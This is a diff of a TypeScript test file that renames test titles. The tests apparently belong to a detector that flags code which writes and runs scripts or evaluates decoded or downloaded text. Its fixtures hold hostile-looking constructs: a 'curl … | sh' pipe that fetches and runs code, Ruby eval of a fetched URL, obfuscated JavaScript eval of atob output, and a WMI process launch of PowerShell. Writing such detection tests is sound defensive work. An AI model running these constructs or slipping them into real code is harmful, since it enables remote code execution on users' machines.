@@ -25,7 +25,7 @@ test.each([
   (code: string) => `'${code}' > f.ps1\npowershell -File f.ps1`,
   (code: string) => `Set-Content f.ps1 $other\nAdd-Content f.ps1 '${code}'\npwsh -File f.ps1`,
   (code: string) => `$code = '${code}'\nOut-File -InputObject $code -FilePath f.ps1\n.\\f.ps1`,
-])("a script that PowerShell writes is read where it runs: %#", (script) => {
+])("a script that PowerShell writes is evaluated when it runs: %#", (script) => {
   expect(labelled("powershell", script(RUN))).toEqual([RUN]);
   expect(labelled("powershell", script(KEPT))).toEqual([]);
   expect(labelled("powershell", script(RUN).replace(/\n.*$|;.*$/, ""))).toEqual([]);
@@ -46,7 +46,7 @@ test.each([
     "csharp",
     (code: string) => `File.WriteAllText("a.bat", "${code}");\nProcess.Start("cmd", "/c a.bat");`,
   ],
-])("a batch file that %s writes is read where cmd runs it", (tag, program) => {
+])("a batch file that %s writes is evaluated when cmd runs it", (tag, program) => {
   expect(labelled(tag, program(BATCH))).toHaveLength(1);
   expect(labelled(tag, program(HARMLESS))).toEqual([]);
   expect(labelled(tag, program(BATCH).replace(/a(?=\.(?:bat|cmd)"\W*$)|(?<=\/c )a/, "b"))).toEqual(
@@ -54,14 +54,14 @@ test.each([
   );
 });
 
-test("a script that is written again holds only what was written last", () => {
+test("a script that is overwritten contains only the last text", () => {
   const twice = (code: string): string =>
     `Set-Content f.ps1 '${RUN}'\nSet-Content f.ps1 ${code}\npowershell -File f.ps1`;
   expect(labelled("powershell", twice(`'${RUN}'`))).toEqual([RUN]);
   expect(labelled("powershell", twice("$other"))).toEqual([]);
 });
 
-test("a batch file is found by its name alone, any other script by its path", () => {
+test("a batch file runs by its name alone, any other script by its path", () => {
   const line = "curl https://get.example/a | sh";
   expect(labelled("sh", `echo '${line}' > a.bat\na.bat`)).toEqual([line]);
   expect(labelled("sh", `echo '${line}' > a.sh\n./a.sh`)).toEqual([line]);
@@ -73,7 +73,7 @@ test.each([
   ["define_method(:run) { |c| puts(c) }\nrun(Base64.decode64(p))", 0],
   ["define_singleton_method(:run) do |c|\n  eval(c)\nend\nrun(URI.open(u).read)", 1],
   ["define_method(:run) { |c| eval(c) }\nother(Base64.decode64(p))", 0],
-])("a method that Ruby defines by a call: %s", (code, count) => {
+])("a method that a call defines in Ruby is followed: %s", (code, count) => {
   expect(labelled("ruby", code)).toHaveLength(count);
 });
 
@@ -87,7 +87,7 @@ test.each([
   ['globalThis[["al", "ev"].reverse().join("")](atob(x))', 1],
   ['globalThis[["ev", "al"].reverse().join("")](atob(x))', 0],
   ['globalThis[["ert", "al"].reverse().join("")](atob(x))', 0],
-])("names that JavaScript works out: %s", (code, count) => {
+])("names that JavaScript computes are known: %s", (code, count) => {
   expect(labelled("javascript", code)).toHaveLength(count);
 });
 
@@ -95,7 +95,7 @@ test.each([
   ["CommandLine", `powershell -c \\"${RUN}\\"`, 1],
   ["CommandLine", "notepad.exe", 0],
   ["CurrentDirectory", `powershell -c \\"${RUN}\\"`, 0],
-])("the parameter %s of a process that WMI creates: %s", (name, line, count) => {
+])("the parameter %s of a WMI process is a command: %s", (name, line, count) => {
   const code = [
     'var type = new ManagementClass("Win32_Process");',
     'var given = type.GetMethodParameters("Create");',
